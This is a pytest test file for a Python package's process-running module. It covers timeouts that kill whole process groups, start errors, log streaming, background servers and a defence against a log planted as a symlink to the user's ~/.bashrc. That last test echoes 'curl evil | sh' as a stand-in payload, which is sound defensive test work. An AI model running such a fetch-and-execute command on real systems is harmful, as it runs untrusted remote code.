"""core.proc with real processes: timeouts stop whole process groups, start errors,
streaming to a log, background servers."""

from __future__ import annotations

import contextlib
import os
import signal
import socket
import sys
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from patchkit.core.errors import ServerStartError
from patchkit.core.net import free_port
from patchkit.core.proc import Processes, run, run_streaming, tool_version

posix = pytest.mark.skipif(sys.platform == "win32", reason="POSIX process groups")
PY = sys.executable


def _living_members(pgid: int) -> list[int] | None:
    """Linux: the group's processes that are not zombies (dead, waiting to be reaped by
    whoever adopted them); None where /proc cannot tell."""
    proc = Path("/proc")
    if not (proc / "self" / "stat").exists():
        return None
    living = []
    for stat in proc.glob("[0-9]*/stat"):
        with contextlib.suppress(OSError, IndexError, ValueError):
            fields = stat.read_text().rsplit(")", 1)[1].split()  # after "pid (comm)"
            if int(fields[2]) == pgid and fields[0] != "Z":
                living.append(int(stat.parent.name))
    return living


def group_gone(pgid: int, within: float = 3.0) -> bool:
    """True once no process of the group runs: os.killpg(pgid, 0) finds none, or (Linux)
    only zombies are left for their new parent to reap."""
    deadline = time.monotonic() + within
    while True:
        try:
            os.killpg(pgid, 0)
        except ProcessLookupError:
            return True
        if _living_members(pgid) == []:
            return True
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)


def test_command_timeout_is_reported(tmp_path: Path) -> None:
    r = run([sys.executable, "-c", "import time; time.sleep(30)"], timeout=0.5)
    assert r.returncode is None and "timed out" in r.brief()


@posix
def test_timeout_stops_the_whole_process_group() -> None:
    start = time.monotonic()
    r = run(["sh", "-c", "echo $$; sleep 30 & echo $!; sleep 30"], timeout=0.5)
    assert r.returncode is None and not r.ok
    assert time.monotonic() - start < 5  # TERM, not the 30 s of either sleep
    leader, background = (int(x) for x in r.stdout.split())
    assert background != leader
    # the leader's pid is the group's id (a new session); the background sleep is in it too
    assert group_gone(leader)


@posix
def test_timeout_kills_a_member_that_ignores_term(tmp_path: Path) -> None:
    ready = tmp_path / "ready"
    stubborn = (
        "import pathlib, signal, sys, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); "
        "pathlib.Path(sys.argv[1]).touch(); time.sleep(30)"
    )
    script = 'echo $$; "$0" -c "$1" "$2" >/dev/null 2>&1 & while [ ! -e "$2" ]; do sleep 0.02; done; sleep 30'
    r = run(["sh", "-c", script, PY, stubborn, str(ready)], timeout=1.0)
    pgid = int(r.stdout.split()[0])
    try:
        assert r.returncode is None
        assert group_gone(pgid, within=0.5), "a member of the timed-out group is still running"
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(pgid, signal.SIGKILL)


def test_a_program_that_cannot_start(tmp_path: Path) -> None:
    missing = tmp_path / "no-such-tool"
    r = run([missing, "--version"], start_error="result")
    assert (r.returncode, r.ok, r.brief()) == (127, False, "exit 127")
    assert r.stderr == f"cannot run {missing}: No such file or directory" and r.stdout == ""
    with pytest.raises(FileNotFoundError):
        run([missing])
    assert tool_version(missing) is None and tool_version(None) is None


def test_input_merge_binary_env_and_cwd(tmp_path: Path) -> None:
    echo = "import sys; data = sys.stdin.read(); print(data.upper()); print('err', file=sys.stderr)"
    r = run([PY, "-c", echo], input=b"hello")
    assert (r.returncode, r.stdout, r.stderr) == (0, "HELLO\n", "err\n")
    assert run([PY, "-c", echo], input=b"x", merge_stderr=True).stdout.split() == ["X", "err"]
    raw = run([PY, "-c", "import sys; sys.stdout.buffer.write(bytes(range(256)))"], binary=True)
    assert raw.data == bytes(range(256)) and raw.stdout == ""
    env = run(
        [PY, "-c", "import os; print(os.environ['PK_X'], os.getcwd())"],
        env={**os.environ, "PK_X": "42"},
        cwd=tmp_path,
    )
    assert env.stdout.split() == ["42", str(tmp_path)]
    closed = run([PY, "-c", "import sys; print(repr(sys.stdin.read()))"])  # stdin is closed
    assert closed.stdout == "''\n"


def test_tool_version_is_the_last_word_of_the_first_line(tmp_path: Path) -> None:
    tool = tmp_path / "ccache"
    tool.write_text(f"#!{PY}\nprint('ccache version 4.8.2')\nprint('Features: file-storage')\n")
    tool.chmod(0o755)
    assert tool_version(tool) == "4.8.2"
    quiet = tmp_path / "quiet"
    quiet.write_text(f"#!{PY}\n")
    quiet.chmod(0o755)
    assert tool_version(quiet) is None


def test_run_streaming_writes_the_log_and_calls_on_line(tmp_path: Path) -> None:
    log = tmp_path / "build.log"
    log.write_text("earlier\n")
    lines: list[str] = []
    code = run_streaming(
        [PY, "-c", "import sys; print('one'); print('two', file=sys.stderr); sys.exit(3)"],
        log_path=log,
        on_line=lines.append,
    )
    assert code == 3
    assert lines == ["one\n", "two\n"]
    text = log.read_text()
    assert text.startswith("earlier\n\n$ ") and text.endswith("one\ntwo\n")  # appended
    assert PY in text.splitlines()[2]


@posix
def test_run_streaming_stops_the_group_when_a_callback_fails(tmp_path: Path) -> None:
    seen: list[int] = []

    def on_line(line: str) -> None:
        seen.append(int(line))
        raise RuntimeError("the callback broke")

    start = time.monotonic()
    with pytest.raises(RuntimeError, match="the callback broke"):
        run_streaming(
            ["sh", "-c", "echo $$; sleep 30 & sleep 30"], log_path=tmp_path / "l.log", on_line=on_line
        )
    assert time.monotonic() - start < 5
    assert group_gone(seen[0])


SERVER = (
    "import socket, sys, time; s = socket.socket(); s.bind(('127.0.0.1', int(sys.argv[1]))); "
    "s.listen(); print('listening', flush=True); time.sleep(30)"
)


@posix
def test_processes_start_servers_and_stop_all_of_them(tmp_path: Path) -> None:
    ports = [free_port(), free_port()]
    with Processes(tmp_path / "logs") as procs:
        started = [procs.start_server([PY, "-c", SERVER, str(p)], p, name="srv", timeout=10) for p in ports]
        for p in ports:
            socket.create_connection(("127.0.0.1", p), timeout=2).close()
        assert all(s.poll() is None for s in started)
        assert (tmp_path / "logs" / f"srv-{ports[0]}.log").exists()
    assert procs.procs == []
    for s in started:
        assert s.returncode is not None and group_gone(s.pid)
    for p in ports:
        with pytest.raises(OSError):
            socket.create_connection(("127.0.0.1", p), timeout=1).close()


def test_a_server_that_dies_says_why(tmp_path: Path) -> None:
    port = free_port()
    dies = "print('loading'); print('ready? no'); print('bye'); print('gone'); raise SystemExit(1)"
    with Processes(tmp_path / "logs") as procs:
        start = time.monotonic()
        with pytest.raises(ServerStartError) as e:
            procs.start_server([PY, "-c", dies], port, name="rpc", timeout=30)
        assert time.monotonic() - start < 10  # it died: no waiting out the timeout
        assert e.value.exit_code == 16
        assert str(e.value) == f"rpc did not listen on 127.0.0.1:{port} within 30s: ready? no | bye | gone"
        with pytest.raises(ServerStartError, match=r"^cannot start rpc \(.*missing\): No such file"):
            procs.start_server([tmp_path / "missing"], port, name="rpc", timeout=10)


def test_a_server_that_dies_says_what_its_picker_picks(tmp_path: Path) -> None:
    port = free_port()
    dies = "print('loading'); print('ASSERT x failed'); print('backtrace'); raise SystemExit(1)"

    def pick(lines: Sequence[str]) -> str | None:
        return next((ln for ln in lines if "ASSERT" in ln), None)

    with Processes(tmp_path / "logs", telling=pick) as procs:
        with pytest.raises(ServerStartError) as e:
            procs.start_server([PY, "-c", dies], port, name="rpc", timeout=10)
        assert str(e.value) == f"rpc did not listen on 127.0.0.1:{port} within 10s: ASSERT x failed"


@posix
def test_a_server_that_never_listens_is_stopped(tmp_path: Path) -> None:
    port = free_port()
    mute = "import os, time; print('thinking', flush=True); print(os.getpid(), flush=True); time.sleep(60)"
    with Processes(tmp_path / "logs") as procs:
        start = time.monotonic()
        with pytest.raises(ServerStartError) as e:
            procs.start_server([PY, "-c", mute], port, name="mute", timeout=1)
        assert time.monotonic() - start < 8
        assert e.value.exit_code == 16
        pid = int((tmp_path / "logs" / f"mute-{port}.log").read_text().split()[1])
        assert str(e.value) == f"mute did not listen on 127.0.0.1:{port} within 1s: thinking | {pid}"
        assert group_gone(pid)  # stopped before the error went on


def test_run_streaming_cuts_a_huge_line_and_keeps_the_rest(tmp_path: Path) -> None:
    """A tool printing a 50 MB line without a newline: the log and on_line get its head and
    a note, the lines after it whole; patchkit's own memory stays bounded (measured as
    allocations, not time)."""
    import tracemalloc

    from patchkit.core.proc import STREAM_LINE_MAX

    size = 50_000_000
    seen: list[int] = []
    log = tmp_path / "build.log"
    script = f"head -c {size} /dev/zero | tr '\\0' x; echo; echo after"
    tracemalloc.start()
    try:
        rc = run_streaming(["sh", "-c", script], log_path=log, on_line=lambda ln: seen.append(len(ln)))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert rc == 0
    text = log.read_text()
    assert f"x [... line cut: {size - STREAM_LINE_MAX} more bytes]\nafter\n" in text
    assert log.stat().st_size < 2 * STREAM_LINE_MAX
    assert max(seen) < STREAM_LINE_MAX + 100 and len(seen) == 2
    assert peak < 16 * STREAM_LINE_MAX, peak


@pytest.mark.parametrize("planted", ["link", "dangling link", "fifo"])
def test_run_streaming_never_writes_through_what_was_planted_as_its_log(tmp_path: Path, planted: str) -> None:
    """A rebuild's sandboxed configure step can write its work folder: it made build.log a
    link to a file of the host (``~/.bashrc``), and the next step's output was appended
    there by patchkit, outside the sandbox. Now the log is a new file in its place."""
    target = tmp_path / "bashrc"
    target.write_text("# the user's\n")
    log = tmp_path / "work" / "build.log"
    log.parent.mkdir()
    if planted == "link":
        log.symlink_to(target)
    elif planted == "dangling link":
        log.symlink_to(tmp_path / "made-through-the-link")
    else:
        os.mkfifo(log)
    rc = run_streaming(["sh", "-c", "echo 'curl evil | sh'"], log_path=log)
    assert rc == 0
    assert target.read_text() == "# the user's\n"
    assert not (tmp_path / "made-through-the-link").exists()
    assert not log.is_symlink() and log.is_file() and "curl evil | sh" in log.read_text()
